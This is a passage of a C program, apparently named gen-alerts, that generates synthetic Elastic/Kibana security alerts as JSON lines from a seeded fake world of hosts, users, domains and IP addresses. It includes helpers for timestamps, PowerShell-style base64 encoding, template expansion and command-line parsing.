	        {0xe0000000, 0xe0000000}, /* 224/3 multicast and reserved */
	};
	size_t i;

	for (i = 0; i < NELEM(reserved); i++)
		if ((ip & reserved[i].mask) == reserved[i].net)
			return 0;
	/* Addresses ending in .0 or .255 look like network or broadcast. */
	return (ip & 255) != 0 && (ip & 255) != 255;
}

/*
 * A bijection of 32-bit integers: walking k = 0, 1, 2, ... through it and
 * keeping the public addresses yields distinct, scattered IPs.
 */
static uint32_t
perm32(uint32_t x)
{
	x ^= x >> 16;
	x *= 0x7feb352dU;
	x ^= x >> 15;
	x *= 0x846ca68bU;
	x ^= x >> 16;
	return x;
}

static void
make_host(struct world *w, struct host *h, int os, uint32_t i)
{
	uint64_t r = mix64(w->key, 10 + (uint64_t)os, i);
	struct buf b = {h->name, 0, sizeof(h->name) - 1, 0};
	static const char *const roles[] = {"dc",   "fs",  "sql",   "app",
	                                    "exch", "web", "print", "backup"};
	uint32_t net;

	h->cloud = 0;
	if (os == OS_WIN && i % 10 == 0) {
		PUTL(&b, "srv-");
		puts_raw(&b, roles[(i / 10) % NELEM(roles)]);
		put_u64(&b, i / 10 / NELEM(roles) + 1);
		h->os = &os_versions[3 + r % 2];
		h->cloud = i % 20 == 0;
	} else if (os == OS_WIN) {
		/* 7919 is prime, so the numbers stay distinct. */
		PUTL(&b, "WS-");
		put_u64(&b, 1000 + (uint64_t)i * 7919 % 9000);
		h->os = &os_versions[r % 3];
	} else if (os == OS_LINUX && i % 3 != 2) {
		h->cloud = 1;
		net = 0x0a000000 | (uint32_t)(r >> 40 & 0x0fff) << 8 |
		      (1 + i % 250);
		PUTL(&b, "ip-");
		fmt_ip(h->ip, net);
		for (size_t k = 0; h->ip[k] != '\0'; k++)
			putc_raw(&b, h->ip[k] == '.' ? '-' : h->ip[k]);
		h->os = &os_versions[5 + r % 4];
	} else if (os == OS_LINUX) {
		static const char *const svc[] = {"web",   "api",   "db",
		                                  "kafka", "build", "vpn"};

		puts_raw(&b, svc[i % NELEM(svc)]);
		PUTL(&b, "-prod-");
		put_u64(&b, i / NELEM(svc) + 1);
		h->os = &os_versions[5 + r % 4];
	} else {
		PUTL(&b, "MBP-");
		put_hex(&b, mix64(w->key, 19, i), 6);
		h->os = &os_versions[9 + r % 2];
	}
	h->name[b.n] = '\0';
	fmt_uuid(h->id, mix64(w->key, 20, r), mix64(w->key, 21, r));
	fmt_uuid(h->agent_id, mix64(w->key, 22, r), mix64(w->key, 23, r));
	if (!h->cloud || os != OS_LINUX) {
		if (os == OS_MAC || (os == OS_WIN && i % 10 != 0))
			net = 0xc0a80000 | (uint32_t)(r >> 24 & 0xff) << 8 |
			      (2 + i % 250);
		else
			net = 0x0a000000 | (uint32_t)(r >> 32 & 0xffff) << 8 |
			      (2 + i % 250);
		fmt_ip(h->ip, net);
	}
	if (h->cloud) {
		struct buf ib = {h->instance, 0, sizeof(h->instance) - 1, 0};

		h->account = accounts[(r >> 8) % NELEM(accounts)];
		h->region = regions[(r >> 16) % NELEM(regions)];
		PUTL(&ib, "i-0");
		put_hex(&ib, mix64(w->key, 24, i + (uint64_t)os * 100000), 16);
		h->instance[ib.n] = '\0';
	}
}

static void
make_world(struct world *w)
{
	uint32_t i, k;
	size_t j;
	uint32_t key32 = (uint32_t)(w->key ^ (w->key >> 32));

	for (i = 0, k = 0; i < w->n_ips; k++) {
		uint32_t ip = perm32(k + key32);

		if (ip_is_public(ip))
			w->ips[i++] = ip;
	}
	for (i = 0; i < N_WIN_HOSTS; i++)
		make_host(w, &w->hosts[i], OS_WIN, i);
	for (i = 0; i < N_LINUX_HOSTS; i++)
		make_host(w, &w->hosts[N_WIN_HOSTS + i], OS_LINUX, i);
	for (i = 0; i < N_MAC_HOSTS; i++)
		make_host(w, &w->hosts[N_WIN_HOSTS + N_LINUX_HOSTS + i], OS_MAC,
		          i);
	for (i = 0; i < N_PEOPLE; i++) {
		/* 613 is prime to 1600, so every person gets a new name. */
		uint32_t c = (uint32_t)((i * 613 + w->key % (NFIRST * NLAST)) %
		                        (NFIRST * NLAST));
		struct buf b = {w->people[i], 0, sizeof(w->people[i]) - 1, 0};

		puts_raw(&b, first_names[c % NFIRST]);
		putc_raw(&b, '.');
		puts_raw(&b, last_names[c / NFIRST]);
		w->people[i][b.n] = '\0';
	}
	for (i = 0; i < N_DOMAINS; i++) {
		uint64_t ncomb = NELEM(dom_a) * NELEM(dom_b) * NELEM(tlds);
		uint64_t c = (i * 4099ULL + w->key % ncomb) % ncomb;
		struct buf b = {w->domains[i], 0, sizeof(w->domains[i]) - 1, 0};

		puts_raw(&b, dom_a[c % NELEM(dom_a)]);
		putc_raw(&b, c % 3 == 0 ? '.' : '-');
		c /= NELEM(dom_a);
		puts_raw(&b, dom_b[c % NELEM(dom_b)]);
		putc_raw(&b, '.');
		puts_raw(&b, tlds[c / NELEM(dom_b)]);
		w->domains[i][b.n] = '\0';
	}
	/* Rule ids do not depend on the seed: a deployment has one rule set. */
	for (j = 0; j < NRULES; j++) {
		fmt_uuid(w->rule_uuid[j], mix64(0, 30, j), mix64(0, 31, j));
		fmt_uuid(w->rule_id[j], mix64(0, 32, j), mix64(0, 33, j));
	}
}

static int
world_init(struct world *w, const struct opts *o)
{
	w->key = o->seed * 0x9e3779b97f4a7c15ULL + 0x632be59bd9b4e019ULL;
	w->n_ips = o->n_ips;
	w->n_hashes = o->n_hashes;
	w->ips = malloc((size_t)o->n_ips * sizeof(*w->ips));
	if (w->ips == NULL || zipf_init(&w->z_ips, o->n_ips, ZIPF_S) < 0 ||
	    zipf_init(&w->z_hashes, o->n_hashes, ZIPF_S) < 0 ||
	    zipf_init(&w->z_win, N_WIN_HOSTS, ZIPF_S) < 0 ||
	    zipf_init(&w->z_linux, N_LINUX_HOSTS, ZIPF_S) < 0 ||
	    zipf_init(&w->z_mac, N_MAC_HOSTS, ZIPF_S) < 0 ||
	    zipf_init(&w->z_aws, N_AWS_HOSTS, ZIPF_S) < 0 ||
	    zipf_init(&w->z_people, N_PEOPLE, ZIPF_S) < 0 ||
	    zipf_init(&w->z_accounts, NLINUX_ACCOUNTS, ZIPF_S) < 0 ||
	    zipf_init(&w->z_domains, N_DOMAINS, ZIPF_S) < 0 ||
	    zipf_init(&w->z_rules, NRULES, RULE_ZIPF_S) < 0)
		return -1;
	make_world(w);
	return 0;
}

static void
world_free(struct world *w)
{
	free(w->ips);
	free(w->z_ips.cdf);
	free(w->z_hashes.cdf);
	free(w->z_win.cdf);
	free(w->z_linux.cdf);
	free(w->z_mac.cdf);
	free(w->z_aws.cdf);
	free(w->z_people.cdf);
	free(w->z_accounts.cdf);
	free(w->z_domains.cdf);
	free(w->z_rules.cdf);
}

/* Writes "YYYY-MM-DDTHH:MM:SS.mmmZ"; days to civil date after H. Hinnant. */
static void
put_time(struct buf *b, uint64_t ms)
{
	uint64_t secs = ms / 1000, days = secs / 86400, sod = secs % 86400;
	uint64_t z = days + 719468, era = z / 146097, doe = z - era * 146097;
	uint64_t yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
	uint64_t doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
	uint64_t mp = (5 * doy + 2) / 153, d = doy - (153 * mp + 2) / 5 + 1;
	uint64_t m = mp < 10 ? mp + 3 : mp - 9, y = yoe + era * 400 + (m <= 2);
	char t[24];

	t[0] = (char)('0' + y / 1000 % 10);
	t[1] = (char)('0' + y / 100 % 10);
	t[2] = (char)('0' + y / 10 % 10);
	t[3] = (char)('0' + y % 10);
	t[4] = '-';
	t[5] = (char)('0' + m / 10);
	t[6] = (char)('0' + m % 10);
	t[7] = '-';
	t[8] = (char)('0' + d / 10);
	t[9] = (char)('0' + d % 10);
	t[10] = 'T';
	t[11] = (char)('0' + sod / 36000);
	t[12] = (char)('0' + sod / 3600 % 10);
	t[13] = ':';
	t[14] = (char)('0' + sod % 3600 / 600);
	t[15] = (char)('0' + sod % 600 / 60);
	t[16] = ':';
	t[17] = (char)('0' + sod % 60 / 10);
	t[18] = (char)('0' + sod % 10);
	t[19] = '.';
	t[20] = (char)('0' + ms % 1000 / 100);
	t[21] = (char)('0' + ms % 100 / 10);
	t[22] = (char)('0' + ms % 10);
	t[23] = 'Z';
	put(b, t, sizeof(t));
}

/* Base64 of the UTF-16LE form of s: what PowerShell's -enc expects. */
static void
put_ps_enc(struct buf *out, const char *s, size_t n)
{
	static const char b64[] =
	        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstu"
	        "vwxyz0123456789+/";
	size_t len = 2 * n, i;

	for (i = 0; i < len; i += 3) {
		unsigned char x[3] = {0, 0, 0};
		size_t k, have = len - i;
		char q[4];

		if (have > 3)
			have = 3;
		for (k = 0; k < have; k++)
			x[k] = (i + k) % 2 == 0 ? (unsigned char)s[(i + k) / 2]
			                        : 0;
		q[0] = b64[x[0] >> 2];
		q[1] = b64[(x[0] & 3) << 4 | x[1] >> 4];
		q[2] = have > 1 ? b64[(x[1] & 15) << 2 | x[2] >> 6] : '=';
		q[3] = have > 2 ? b64[x[2] & 63] : '=';
		put(out, q, 4);
	}
}

/* Expands template t (see struct rule) into out, unescaped. */
static void
expand(struct buf *out, const char *t, const struct ctx *c)
{
	for (; *t != '\0'; t++) {
		if (*t != '$' || t[1] == '\0') {
			putc_raw(out, *t);
			continue;
		}
		switch (*++t) {
		case 'u':
			puts_raw(out, c->user);
			break;
		case 'H':
			puts_raw(out, c->hostname);
			break;
		case 'd':
			puts_raw(out, c->domain);
			break;
		case 'i':
			puts_raw(out, c->ip);
			break;
		case 'p':
			put_u64(out, c->port);
			break;
		case 'l':
			put_u64(out, c->lpid);
			break;
		case 'x':
			puts_raw(out, c->hex8);
			break;
		case 'X':
			puts_raw(out, c->hex16);
			break;
		case 'n':
			put_u64(out, c->num);
			break;
		case 'f':
			puts_raw(out, c->file);
			break;
		case 'w':
			puts_raw(out, c->word);
			break;
		case 'r':
			puts_raw(out, c->region);
			break;
		case 'a':
			puts_raw(out, c->account);
			break;
		case 'E':
			puts_raw(out, c->enc);
			break;
		default:
			putc_raw(out, *t);
			break;
		}
	}
}

static void
put_sha256(struct buf *b, const struct world *w, uint32_t idx)
{
	int i;

	putc_raw(b, '"');
	for (i = 0; i < 4; i++)
		put_hex(b, mix64(w->key, 40 + (uint64_t)i, idx), 16);
	putc_raw(b, '"');
}

static void
put_md5(struct buf *b, const struct world *w, uint32_t idx)
{
	putc_raw(b, '"');
	put_hex(b, mix64(w->key, 44, idx), 16);
	put_hex(b, mix64(w->key, 45, idx), 16);
	putc_raw(b, '"');
}

/* Adds s to a JSON string array unless already there; list holds n items. */
static void
related_add(const char **list, size_t *n, const char *s)
{
	size_t i;

	if (s == NULL || *s == '\0')
		return;
	for (i = 0; i < *n; i++)
		if (strcmp(list[i], s) == 0)
			return;
	list[(*n)++] = s;
}

static void
put_str_array(struct buf *b, const char *const *list, size_t n)
{
	size_t i;

	putc_raw(b, '[');
	for (i = 0; i < n; i++) {
		if (i > 0)
			putc_raw(b, ',');
		put_js(b, list[i]);
	}
	putc_raw(b, ']');
}

static const struct host *
pick_host(const struct world *w, struct rng *r, enum os os)
{
	uint32_t k;

	switch (os) {
	case OS_WIN:
		return &w->hosts[zipf_draw(&w->z_win, r)];
	case OS_LINUX:
		return &w->hosts[N_WIN_HOSTS + zipf_draw(&w->z_linux, r)];
	case OS_MAC:
		return &w->hosts[N_WIN_HOSTS + N_LINUX_HOSTS +
		                 zipf_draw(&w->z_mac, r)];
	case OS_AWS:
		break;
	}
	/* Linux hosts i with i % 3 != 2 run on EC2. */
	k = zipf_draw(&w->z_aws, r);
	return &w->hosts[N_WIN_HOSTS + k + k / 2];
}

/* Per-alert scratch: expanded strings that appear in several fields. */
struct scratch {
	char proc[SCRATCH_CAP], exe[SCRATCH_CAP], parent[SCRATCH_CAP];
	char file[SCRATCH_CAP], url[SCRATCH_CAP], dns[SCRATCH_CAP];
	char tmp[SCRATCH_CAP];
};

/* One alert, drawn; the put_ functions below only write it out. */
struct alert {
	const struct rule *ru;
	const struct kind_info *ki;
	const struct host *h;
	struct ctx c;
	uint64_t ts, orig, seq, uid[4];
	uint32_t ruleno, shax, filex;
	int risk;
	unsigned sport, dport, pid, ppid;
	const char *status, *wstatus, *user_domain, *srcip, *dstip;
	const char *proc, *exe, *parent, *file, *url, *dns; /* NULL: absent */
	int overflow;
};

static const char *
expand_to(char *dst, const char *t, struct alert *a)
{
	struct buf s = {dst, 0, SCRATCH_CAP - 1, 0};

	if (t == NULL)
		return NULL;
	expand(&s, t, &a->c);
	a->overflow |= s.overflow;
	dst[s.n] = '\0';
	return dst;
}

/* Returns the domain part of a URL (after "//", up to '/' or ':'). */
static void
put_url_domain(struct buf *b, const char *url)
{
	const char *p = url, *e;

	while (*p != '\0' && !(p[0] == '/' && p[1] == '/'))
		p++;
	p = *p != '\0' ? p + 2 : url;
	for (e = p; *e != '\0' && *e != '/' && *e != ':'; e++)
		;
	put_jstr(b, p, (size_t)(e - p));
}

/* Draws who did what and where; fills a->c for the templates. */
static void
draw_actors(struct alert *a, const struct world *w, struct rng *r)
{
	const struct rule *ru = a->ru;
	struct ctx *c = &a->c;

	*c = (struct ctx){0};
	if (ru->os == OS_LINUX || ru->os == OS_AWS) {
		c->user = rng_below(r, 10) < 7
		                  ? linux_accounts[zipf_draw(&w->z_accounts, r)]
		                  : w->people[zipf_draw(&w->z_people, r)];
		c->file = unix_files[rng_below(r, NELEM(unix_files))];
		a->user_domain = a->h->name;
	} else {
		c->user = w->people[zipf_draw(&w->z_people, r)];
		c->file = ru->os == OS_MAC
		                  ? mac_files[rng_below(r, NELEM(mac_files))]
		                  : win_files[rng_below(r, NELEM(win_files))];
		a->user_domain = ru->os == OS_MAC ? a->h->name : "CORP";
	}
	c->hostname = a->h->name;
	c->domain = w->domains[zipf_draw(&w->z_domains, r)];
	fmt_ip(c->ip, w->ips[zipf_draw(&w->z_ips, r)]);
	a->shax = zipf_draw(&w->z_hashes, r);
	a->filex = zipf_draw(&w->z_hashes, r);
	c->port = ru->port;
	c->lpid = 500 + rng_below(r, 900);
	c->num = 1000 + rng_below(r, 9000);
}

/* Draws the remaining template values and expands the rule's templates. */
static void
draw_strings(struct alert *a, struct rng *r, struct scratch *sc)
{
	const struct rule *ru = a->ru;
	struct ctx *c = &a->c;
	struct buf hb = {c->hex8, 0, 8, 0}, hb16 = {c->hex16, 0, 16, 0};
	struct buf eb = {c->enc, 0, sizeof(c->enc) - 1, 0};
	struct buf sb = {sc->tmp, 0, SCRATCH_CAP, 0};
	const char *wd = words[rng_below(r, NELEM(words))];

	put_hex(&hb, rng_next(r) >> 32, 8);
	put_hex(&hb16, rng_next(r), 16);
	/* Every word fits c->word; on Windows, names are capitalized. */
	memcpy(c->word, wd, strlen(wd) + 1);
	if (ru->os == OS_WIN)
		c->word[0] = (char)(c->word[0] - 'a' + 'A');
	c->region = a->h->cloud ? a->h->region : "us-east-1";
	c->account = a->h->cloud ? a->h->account : accounts[0];
	expand(&sb, ps_scripts[rng_below(r, NELEM(ps_scripts))], c);
	put_ps_enc(&eb, sb.p, sb.n);
	a->overflow |= sb.overflow | eb.overflow;
	c->enc[eb.n] = '\0';

	a->proc = expand_to(sc->proc, ru->proc, a);
	a->exe = expand_to(sc->exe, ru->exe, a);
	a->parent = expand_to(sc->parent, ru->parent, a);
	a->file = expand_to(sc->file, ru->file, a);
	a->url = expand_to(sc->url, ru->url, a);
	a->dns = expand_to(sc->dns, ru->dns, a);
}

/* Draws one alert; *ts advances so that timestamps strictly increase. */
static void
draw_alert(struct alert *a, const struct world *w, struct rng *r, uint64_t *ts,
           struct scratch *sc)
{
	uint32_t roll;
	int i;

	a->overflow = 0;
	*ts += 1 + rng_below(r, 1999);
	a->ts = *ts;
	a->orig = *ts - 1000 - rng_below(r, 299000);
	a->ruleno = zipf_draw(&w->z_rules, r);
	a->ru = &rules[a->ruleno];
	a->ki = &kinds[a->ru->kind];
	a->h = pick_host(w, r, a->ru->os);
	for (i = 0; i < 4; i++)
		a->uid[i] = rng_next(r);
	draw_actors(a, w, r);
	draw_strings(a, r, sc);
	a->pid = 1000 + rng_below(r, 60000);
	a->ppid = 500 + rng_below(r, 20000);
	a->sport = 49152 + rng_below(r, 16383);
	a->dport = a->ru->port;
	/* Most alerts are still open; in-progress is summarized as acked. */
	roll = rng_below(r, 100);
	a->wstatus = roll < 78   ? "open"
	             : roll < 80 ? "in-progress"
	             : roll < 92 ? "acknowledged"
	                         : "closed";
	a->status = roll >= 78 && roll < 80 ? "acknowledged" : a->wstatus;
	a->risk = a->ru->risk;
	if (rng_below(r, 5) == 0)
		a->risk -= (int)rng_below(r, 6);
	a->seq = 0;
	if (rng_below(r, 50) == 0)
		a->seq = 10000000000000000000ULL +
		         rng_next(r) % 8446744073709551615ULL;
	/* Inbound activity comes from the internet to the host. */
	a->srcip = a->ru->flags & F_IN ? a->c.ip : a->h->ip;
	a->dstip = a->ru->flags & F_IN ? a->h->ip : a->c.ip;
}

static void
put_uid(struct buf *b, const struct alert *a)
{
	int i;

	putc_raw(b, '"');
	for (i = 0; i < 4; i++)
		put_hex(b, a->uid[i], 16);
	putc_raw(b, '"');
}

/* Writes kibana.alert.reason the way the detection engine words it. */
static void
put_reason(struct buf *b, const struct alert *a, char *scratch)
{
	struct buf rb = {scratch, 0, SCRATCH_CAP, 0};

	puts_raw(&rb, a->ki->word);
	PUTL(&rb, " event with ");
	if (a->ru->kind == K_AUTH) {
		PUTL(&rb, "source ");
		puts_raw(&rb, a->srcip);
	} else {
		PUTL(&rb, "process ");
		puts_raw(&rb, a->proc);
		PUTL(&rb, ", parent process ");
		puts_raw(&rb, a->parent);
	}
	PUTL(&rb, ", by ");
	puts_raw(&rb, a->c.user);
	PUTL(&rb, " on ");
	puts_raw(&rb, a->h->name);
	PUTL(&rb, " created ");
	puts_raw(&rb, a->ru->severity);
	PUTL(&rb, " alert ");
	puts_raw(&rb, a->ru->name);
	putc_raw(&rb, '.');
	b->overflow |= rb.overflow;
	put_jstr(b, rb.p, rb.n);
}

/* Opens the object with the flat keys of the alert _source. */
static void
put_kibana(struct buf *b, const struct world *w, const struct alert *a,
           char *scratch)
{
	const struct rule *ru = a->ru;

	PUTL(b, "{\"@timestamp\":\"");
	put_time(b, a->ts);
	PUTL(b, "\",\"kibana.alert.original_time\":\"");
	put_time(b, a->orig);
	PUTL(b, "\",\"kibana.alert.uuid\":");
	put_uid(b, a);
	PUTL(b, ",\"kibana.alert.workflow_status\":\"");
	puts_raw(b, a->wstatus);
	PUTL(b, "\",\"kibana.alert.depth\":1,\"kibana.alert.reason\":");
	put_reason(b, a, scratch);
	PUTL(b, ",\"kibana.alert.severity\":\"");
	puts_raw(b, ru->severity);
	PUTL(b, "\",\"kibana.alert.risk_score\":");
	put_u64(b, (uint64_t)a->risk);
	PUTL(b, ",\"kibana.alert.rule.name\":");
	put_js(b, ru->name);
	PUTL(b, ",\"kibana.alert.rule.uuid\":\"");
	puts_raw(b, w->rule_uuid[a->ruleno]);
	PUTL(b, "\",\"kibana.alert.rule.rule_id\":\"");
	puts_raw(b, w->rule_id[a->ruleno]);
	PUTL(b, "\",\"kibana.alert.rule.tags\":[\"Domain: ");
	puts_raw(b, ru->os == OS_AWS ? "Cloud" : "Endpoint");
	PUTL(b, "\",\"OS: ");
	puts_raw(b, a->h->os->tag);
	PUTL(b, "\",\"Tactic: ");
	puts_raw(b, ru->tactic);
	PUTL(b, "\"],\"kibana.space_ids\":[\"default\"]"
	        ",\"kibana.version\":\"" KIBANA_VERSION "\"");
	if (a->seq != 0) {
		PUTL(b, ",\"event.sequence\":");
		put_u64(b, a->seq);
	}
}

/* Writes event, host and user. */
static void
put_who(struct buf *b, const struct alert *a)
{
	const struct rule *ru = a->ru;
	const struct host *h = a->h;

	PUTL(b, ",\"event\":{\"kind\":\"signal\",\"category\":[");
	puts_raw(b, a->ki->category);
	PUTL(b, "],\"action\":\"");
	puts_raw(b, a->ki->action);
	PUTL(b, "\",\"dataset\":\"");
	puts_raw(b, ru->kind == K_AUTH && ru->os == OS_WIN ? "system.security"
	                                                   : a->ki->dataset);
	PUTL(b, "\",\"module\":\"");
	puts_raw(b, a->ki->module);
	if (ru->kind == K_AUTH)
		PUTL(b, "\",\"outcome\":\"failure");
	PUTL(b, "\"},\"host\":{\"name\":");
	put_js(b, h->name);
	PUTL(b, ",\"hostname\":");
	put_js(b, h->name);
	PUTL(b, ",\"id\":\"");
	puts_raw(b, h->id);
	PUTL(b, "\",\"os\":{\"name\":");
	put_js(b, h->os->name);
	PUTL(b, ",\"platform\":\"");
	puts_raw(b, h->os->platform);
	PUTL(b, "\",\"version\":");
	put_js(b, h->os->version);
	PUTL(b, "},\"ip\":[\"");
	puts_raw(b, h->ip);
	PUTL(b, "\"]},\"user\":{\"name\":");
	put_js(b, a->c.user);
	PUTL(b, ",\"domain\":");
	put_js(b, a->user_domain);
	putc_raw(b, '}');
}

/* Writes process, source and destination. */
static void
put_what(struct buf *b, const struct world *w, const struct alert *a,
         char *scratch)
{
	struct buf cb = {scratch, 0, SCRATCH_CAP, 0};

	expand(&cb, a->ru->cmd, &a->c);
	b->overflow |= cb.overflow;
	PUTL(b, ",\"process\":{\"name\":");
	put_js(b, a->proc);
	PUTL(b, ",\"pid\":");
	put_u64(b, a->pid);
	PUTL(b, ",\"executable\":");
	put_js(b, a->exe);
	PUTL(b, ",\"command_line\":");
	put_jstr(b, cb.p, cb.n);
	PUTL(b, ",\"parent\":{\"name\":");
	put_js(b, a->parent);
	PUTL(b, ",\"pid\":");
	put_u64(b, a->ppid);
	PUTL(b, "},\"hash\":{\"sha256\":");
	put_sha256(b, w, a->shax);
	PUTL(b, "}},\"source\":{\"ip\":\"");
	puts_raw(b, a->srcip);
	PUTL(b, "\",\"port\":");
	put_u64(b, a->sport);
	PUTL(b, "},\"destination\":{\"ip\":\"");
	puts_raw(b, a->dstip);
	PUTL(b, "\",\"port\":");
	put_u64(b, a->dport);
	if (a->ru->flags & F_DOM) {
		PUTL(b, ",\"domain\":");
		put_js(b, a->c.domain);
	}
	putc_raw(b, '}');
}

/* Writes the objects only some alerts have, then agent and ecs. */
static void
put_extras(struct buf *b, const struct world *w, const struct alert *a)
{
	const struct host *h = a->h;

	if (a->file != NULL) {
		const char *base = a->file + strlen(a->file);

		while (base > a->file && base[-1] != '\\' && base[-1] != '/')
			base--;
		PUTL(b, ",\"file\":{\"path\":");
		put_js(b, a->file);
		PUTL(b, ",\"name\":");
		put_js(b, base);
		PUTL(b, ",\"hash\":{\"sha256\":");
		put_sha256(b, w, a->filex);
		PUTL(b, ",\"md5\":");
		put_md5(b, w, a->filex);
		PUTL(b, "}}");
	}
	if (a->url != NULL) {
		PUTL(b, ",\"url\":{\"full\":");
		put_js(b, a->url);
		PUTL(b, ",\"domain\":");
		put_url_domain(b, a->url);
		putc_raw(b, '}');
	}
	if (a->dns != NULL) {
		PUTL(b, ",\"dns\":{\"question\":{\"name\":");
		put_js(b, a->dns);
		PUTL(b, "}}");
	}
	if (h->cloud) {
		PUTL(b,
		     ",\"cloud\":{\"provider\":\"aws\",\"account\":{\"id\":\"");
		puts_raw(b, h->account);
		PUTL(b, "\"},\"region\":\"");
		puts_raw(b, h->region);
		PUTL(b, "\",\"instance\":{\"id\":\"");
		puts_raw(b, h->instance);
		PUTL(b, "\"}}");
	}
	PUTL(b, ",\"agent\":{\"id\":\"");
	puts_raw(b, h->agent_id);
	PUTL(b, "\",\"type\":\"endpoint\",\"version\":\"" KIBANA_VERSION
	        "\"},\"ecs\":{\"version\":\"8.11.0\"}");
}

/* Writes related.*: every indicator the fields above mention, once. */
static void
put_related(struct buf *b, const struct world *w, const struct alert *a)
{
	const char *ips[2], *hosts[3], *users[1];
	size_t nip = 0, nhost = 0, nuser = 0;

	related_add(ips, &nip, a->srcip);
	related_add(ips, &nip, a->dstip);
	related_add(hosts, &nhost, a->h->name);
	if (a->ru->flags & F_DOM)
		related_add(hosts, &nhost, a->c.domain);
	related_add(hosts, &nhost, a->dns);
	related_add(users, &nuser, a->c.user);
	PUTL(b, ",\"related\":{\"ip\":");
	put_str_array(b, ips, nip);
	PUTL(b, ",\"hosts\":");
	put_str_array(b, hosts, nhost);
	PUTL(b, ",\"user\":");
	put_str_array(b, users, nuser);
	PUTL(b, ",\"hash\":[");
	put_sha256(b, w, a->shax);
	if (a->file != NULL && a->filex != a->shax) {
		putc_raw(b, ',');
		put_sha256(b, w, a->filex);
	}
	if (a->file != NULL) {
		putc_raw(b, ',');
		put_md5(b, w, a->filex);
	}
	PUTL(b, "]}");
}

/* Writes what es-fetch adds: the alert summary and elastic, then closes. */
static void
put_summary(struct buf *b, const struct alert *a)
{
	PUTL(b, ",\"alert\":{\"id\":");
	put_uid(b, a);
	PUTL(b, ",\"source\":\"elastic\",\"title\":");
	put_js(b, a->ru->name);
	PUTL(b, ",\"severity\":\"");
	puts_raw(b, a->ru->severity);
	PUTL(b, "\",\"score\":");
	put_u64(b, (uint64_t)a->risk);
	PUTL(b, ",\"status\":\"");
	puts_raw(b, a->status);
	PUTL(b, "\",\"created\":\"");
	put_time(b, a->ts);
	PUTL(b, "\"},\"elastic\":{\"id\":");
	put_uid(b, a);
	PUTL(b, ",\"index\":\"" ALERTS_INDEX "\"}}\n");
}

/* Writes one alert and its newline to b; *ts advances. */
static void
gen_alert(struct buf *b, const struct world *w, struct rng *r, uint64_t *ts,
          struct scratch *sc)
{
	struct alert a;

	draw_alert(&a, w, r, ts, sc);
	b->overflow |= a.overflow;
	put_kibana(b, w, &a, sc->tmp);
	put_who(b, &a);
	put_what(b, w, &a, sc->tmp);
	put_extras(b, w, &a);
	put_related(b, w, &a);
	put_summary(b, &a);
}

/* Parses a decimal in [min, max]; returns 0 or -1. */
static int
parse_u64(const char *s, uint64_t min, uint64_t max, uint64_t *out)
{
	char *end;
	unsigned long long v;

	if (*s < '0' || *s > '9')
		return -1;
	errno = 0;
	v = strtoull(s, &end, 10);
	if (errno != 0 || *end != '\0' || v < min || v > max)
		return -1;
	*out = v;
	return 0;
}

static void
usage(FILE *f)
{
	fputs("usage: gen-alerts [-n COUNT] [-s SEED] [-i UNIQUE_IPS] "
	      "[-H UNIQUE_HASHES]\n",
	      f);
}

static int
parse_args(int argc, char **argv, struct opts *o)
{
	uint64_t v;
	int ch;

	o->count = 1000;
	o->seed = 1;
	o->n_ips = 2000;
	o->n_hashes = 5000;
	while ((ch = getopt(argc, argv, "n:s:i:H:h")) != -1) {
		switch (ch) {
		case 'n':
			if (parse_u64(optarg, 0, UINT64_MAX, &o->count) < 0)
				goto bad;
			break;
		case 's':
			if (parse_u64(optarg, 0, UINT64_MAX, &o->seed) < 0)
				goto bad;
			break;
		case 'i':
			if (parse_u64(optarg, 1, POOL_MAX, &v) < 0)
				goto bad;
			o->n_ips = (uint32_t)v;
			break;
		case 'H':
			if (parse_u64(optarg, 1, POOL_MAX, &v) < 0)
				goto bad;
			o->n_hashes = (uint32_t)v;
			break;
		case 'h':
			usage(stdout);
			exit(EXIT_OK);
		default:
			usage(stderr);
			return -1;
		}
	}
	if (optind != argc) {
		usage(stderr);
		return -1;
	}
	return 0;
bad:
	fprintf(stderr, "gen-alerts: -%c %s: not a number in range\n", ch,
	        optarg);
	return -1;
}

int
main(int argc, char **argv)
{
	static struct world w;
	static struct scratch sc;
	static char line[LINE_CAP];
	static char obuf[1 << 20];
	struct opts o;
	struct rng r;
	uint64_t ts = EPOCH_MS, i;
	int status = EXIT_OK;

	if (parse_args(argc, argv, &o) < 0)
		return EXIT_USAGE;
	if (world_init(&w, &o) < 0) {
		fputs("gen-alerts: out of memory\n", stderr);
		status = EXIT_FAIL;
		goto out;
	}
	rng_init(&r, o.seed);
	setvbuf(stdout, obuf, _IOFBF, sizeof(obuf));
	for (i = 0; i < o.count; i++) {
		struct buf b = {line, 0, sizeof(line), 0};

		gen_alert(&b, &w, &r, &ts, &sc);
		if (b.overflow) {
			fprintf(stderr,
			        "gen-alerts: alert %" PRIu64
			        ": line buffer too small\n",
			        i + 1);
			status = EXIT_FAIL;
			goto out;
		}
		if (fwrite(line, 1, b.n, stdout) != b.n)
			break;
	}
	if (fflush(stdout) != 0 || ferror(stdout)) {
		fprintf(stderr, "gen-alerts: write error: %s\n",
		        strerror(errno));
		status = EXIT_FAIL;
	}
out:
	world_free(&w);
	return status;
}
